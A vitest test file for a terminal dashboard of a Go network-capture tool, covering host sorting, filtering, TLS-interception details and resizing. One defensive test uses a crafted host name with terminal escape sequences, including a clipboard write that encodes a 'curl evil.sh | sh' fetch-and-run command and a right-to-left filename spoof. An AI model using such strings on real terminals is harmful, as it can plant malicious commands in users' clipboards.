import { afterEach, describe, expect, test } from 'vitest';
import { cleanup } from 'ink-testing-library';
import { Dashboard } from '../../src/ui/dashboard.js';
import type { ModelSnapshot } from '../../src/model/types.js';
import { GrowingSource, hostileName, snapshot } from './fixtures.js';
import { KEY, frame, lines, press, renderAt, resize, tick } from './render.js';

const fixed = (s: ModelSnapshot = snapshot()) => ({ snapshot: () => s, ended: () => s.capture.ended });

/** Host column values of the table rows, top to bottom. */
function tableHosts(text: string): string[] {
  const rows = text.split('\n');
  const start = rows.findIndex((l) => /ROLE\s+HOST/.test(l));
  const end = rows.findIndex((l) => l.startsWith('FINDINGS'));
  return rows.slice(start + 1, end).map((l) => l.slice(13).trim().split(/\s+/)[0]!);
}

afterEach(() => cleanup());

describe('Dashboard', () => {
  test('header shows source, elapsed capture time, packets, bytes, rate, drops and problems', async () => {
    const r = await renderAt(<Dashboard source={fixed(snapshot({ drops: 7 }))} title="replay" />, 120, 40);
    const [l1, l2] = lines(r);
    expect(l1).toContain('gotap replay · captures/lab/clean/capture.pcap');
    expect(l2).toMatch(/elapsed 0\.23 s · packets 289 · 59\.2 kB · 1,230 pkt\/s 252\.1 kB\/s · drops 7 · problems 2/);
    expect(l1).not.toMatch(/ENDED|PAUSED/);
  });

  test('the ended marker appears when the capture ends', async () => {
    const src = new GrowingSource();
    src.advance();
    const r = await renderAt(<Dashboard source={src} title="replay" />, 120, 40);
    expect(lines(r)[0]).not.toContain('ENDED');
    src.end();
    await tick(150);
    expect(lines(r)[0]).toContain('ENDED');
  });

  test('findings are listed by severity, newest first within a severity', async () => {
    const r = await renderAt(<Dashboard source={fixed()} title="t" />, 120, 40);
    const f = lines(r).filter((l) => /^(CRIT|WARN|INFO) /.test(l));
    expect(f.map((l) => l.slice(0, 4))).toEqual(['CRIT', 'WARN', 'WARN', 'WARN', 'INFO']);
    // warn findings at capture offsets 0.2 (DNS), 0.09 (policy), 0.06 (downgrade)
    expect(f[1]).toContain('DNS answer for evil');
    expect(f[2]).toContain('GOPROXY=direct');
    expect(f[3]).toContain('chose TLS 1.2');
    expect(f[2]).toContain('frames 41, 97');
  });

  test('s cycles the sort: bytes, name, first seen, severity', async () => {
    const r = await renderAt(<Dashboard source={fixed()} title="t" />, 120, 40);
    expect(frame(r)).toContain('sort bytes');
    expect(tableHosts(frame(r)).slice(0, 3)).toEqual(['proxy.golang.org', 'sum.golang.org', 'goproxy.example.corp']);
    await press(r, 's');
    expect(frame(r)).toContain('sort name');
    const byName = tableHosts(frame(r));
    expect([byName[0], byName[1]!.slice(0, 8), byName[2]]).toEqual(['127.0.0.53', 'evil\\x1b', 'goproxy.cn']);
    await press(r, 's');
    expect(frame(r)).toContain('sort first seen');
    expect(tableHosts(frame(r))[0]).toBe('127.0.0.53');
    expect(tableHosts(frame(r))[1]).toBe('proxy.golang.org');
    await press(r, 's');
    expect(frame(r)).toContain('sort severity');
    expect(tableHosts(frame(r))[0]).toBe('goproxy.example.corp');
    await press(r, 's');
    expect(frame(r)).toContain('sort bytes');
  });

  test('/ filters by substring over names and role; esc clears the filter', async () => {
    const r = await renderAt(<Dashboard source={fixed()} title="t" />, 120, 40);
    await press(r, '/', 'g', 'o', 'l', 'a', 'n', 'g');
    expect(frame(r)).toContain('filter /golang');
    expect(tableHosts(frame(r))).toEqual(['proxy.golang.org', 'sum.golang.org']);
    await press(r, KEY.enter);
    expect(frame(r)).toContain('filter "golang"');
    await press(r, KEY.esc);
    expect(tableHosts(frame(r))).toHaveLength(6);
    await press(r, '/', 'r', 'e', 's', 'o', 'l', 'v', 'e', 'r', KEY.enter);
    expect(tableHosts(frame(r))).toEqual(['127.0.0.53']);
    await press(r, '/', KEY.backspace, KEY.backspace, KEY.backspace, KEY.backspace, KEY.backspace, KEY.backspace, KEY.backspace, KEY.backspace);
    await press(r, 'm', 'i', 'r', 'r', 'o', 'r', KEY.enter);
    expect(tableHosts(frame(r))).toEqual(['goproxy.example.corp', 'goproxy.cn']);
  });

  test('enter opens the selected host: DNS answers, certificate, Go requests, evidence frames, findings; esc goes back', async () => {
    const r = await renderAt(<Dashboard source={fixed()} title="t" />, 120, 50);
    await press(r, KEY.down, KEY.up, KEY.enter);
    const text = frame(r);
    expect(text).toContain('proxy.golang.org — Go module proxy (Google) [proxy]');
    expect(text).toMatch(/DNS answers \(1\)\n\s+proxy\.golang\.org → 127\.0\.0\.2 NOERROR · resolver 127\.0\.0\.53 ttl 300 · frame 5/);
    expect(text).toContain('issuer    CN=WE1, O=Google Trust Services, C=US (Google Trust Services)');
    expect(text).toContain('valid     2026-10-01T08:00:00.000Z → 2026-12-30T08:00:00.000Z');
    expect(text).toContain('verdict   trusted');
    expect(text).toContain('list 2 · info 3 · mod 4 · zip 4 · latest 1');
    expect(text).toMatch(/Evidence frames\n\s+5, 12, 14, 41, 97/);
    expect(text).toContain('WARN GOPROXY=direct but proxy.golang.org was contacted 3 times');
    expect(text).toContain("fix: check `go env GOENV` and your editor's toolsEnvVars");
    expect(text).toContain('process    go (pid 4121)');
    await press(r, KEY.esc);
    expect(frame(r)).toMatch(/ROLE\s+HOST/);
  });

  test('the detail of an intercepted host names the product, issuer and validity', async () => {
    const r = await renderAt(<Dashboard source={fixed()} title="t" />, 120, 50);
    await press(r, KEY.down, KEY.down, KEY.enter);
    const text = frame(r);
    expect(text).toContain('goproxy.example.corp — configured mirror [mirror]');
    expect(text).toContain('verdict   UNTRUSTED · intercepted by Zscaler');
    expect(text).toContain('issuer    CN=Zscaler Root CA, O=Zscaler Inc. (Zscaler Inc.)');
    expect(text).toContain('chain     2 certificates · frame 120');
    expect(text).toContain('CRIT TLS to goproxy.example.corp is intercepted by Zscaler');
  });

  test('tab moves to the findings panel; enter opens the host of the selected finding', async () => {
    const r = await renderAt(<Dashboard source={fixed()} title="t" />, 120, 50);
    await press(r, KEY.tab, KEY.down, KEY.down, KEY.enter);
    expect(lines(r)[2]).toBe('proxy.golang.org — Go module proxy (Google) [proxy]');
  });

  test('the detail view scrolls when it is taller than the screen', async () => {
    const r = await renderAt(<Dashboard source={fixed()} title="t" />, 100, 14);
    await press(r, KEY.enter);
    expect(frame(r)).toContain('proxy.golang.org — Go module proxy');
    expect(frame(r)).not.toContain('Evidence frames');
    for (let i = 0; i < 12; i++) r.stdin.write(KEY.down);
    await tick(100);
    expect(frame(r)).not.toContain('proxy.golang.org — Go module proxy');
    expect(frame(r)).toContain('Evidence frames');
  });

  test('hostile strings from packets are rendered inert in every view', async () => {
    const r = await renderAt(<Dashboard source={fixed()} title={`t${'\u001b'}]0;pwned\u0007`} />, 160, 60);
    const check = (): void => {
      const text = frame(r);
      for (const ch of ['\u001b', '\u0007', '\u009b', '\u202e']) expect(text).not.toContain(ch);
      expect(text).toContain('\\x1b[2J');
    };
    check();
    await press(r, 's');
    const row = tableHosts(frame(r)).indexOf('evil\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07.example\\x9b31m\\u{202e}gnp.exe');
    expect(row).toBeGreaterThanOrEqual(0);
    for (let i = 0; i < row; i++) await press(r, KEY.down);
    await press(r, KEY.enter);
    expect(frame(r)).toContain('evil\\x1b[2J');
    expect(frame(r)).toContain('subject   CN=\\x1b[2J\\x1b[H');
    expect(frame(r)).toContain('process    curl\\x1b[2J');
    check();
    await press(r, '/', '\u001b[2J', 'x', KEY.enter);
    check();
    expect(hostileName).toContain('\u001b');
  });

  test('the frame fits the terminal at any size and follows resizes', async () => {
    const r = await renderAt(<Dashboard source={fixed()} title="t" />, 100, 30);
    for (const [cols, rows] of [
      [100, 30],
      [60, 12],
      [40, 8],
      [90, 20],
    ] as const) {
      resize(r, cols, rows);
      // While the resize settles the frame fills the screen (so ink redraws from scratch after it) …
      await tick(60);
      expect(lines(r)).toHaveLength(rows);
      // … then it stays one line short of it, so the terminal never scrolls.
      await tick(250);
      const ls = lines(r);
      expect(ls.length).toBeLessThanOrEqual(rows - 1);
      for (const l of ls) expect([...l].length).toBeLessThanOrEqual(cols);
    }
  });

  test('p freezes the displayed snapshot while the source keeps changing', async () => {
    const src = new GrowingSource();
    src.advance();
    const r = await renderAt(<Dashboard source={src} title="t" />, 120, 40);
    expect(lines(r)[1]).toContain('packets 1 ');
    await press(r, 'p');
    expect(lines(r)[0]).toContain('PAUSED');
    for (let i = 0; i < 50; i++) src.advance();
    await tick(250);
    expect(lines(r)[1]).toContain('packets 1 ');
    await press(r, 'p');
    await tick(150);
    expect(lines(r)[1]).toContain('packets 51 ');
    expect(lines(r)[0]).not.toContain('PAUSED');
  });

  test('q quits', async () => {
    let quit = 0;
    const r = await renderAt(<Dashboard source={fixed()} title="t" onQuit={() => quit++} />, 100, 30);
    await press(r, '/', 'q');
    expect(quit).toBe(0);
    await press(r, KEY.enter, 'q');
    expect(quit).toBe(1);
  });
});
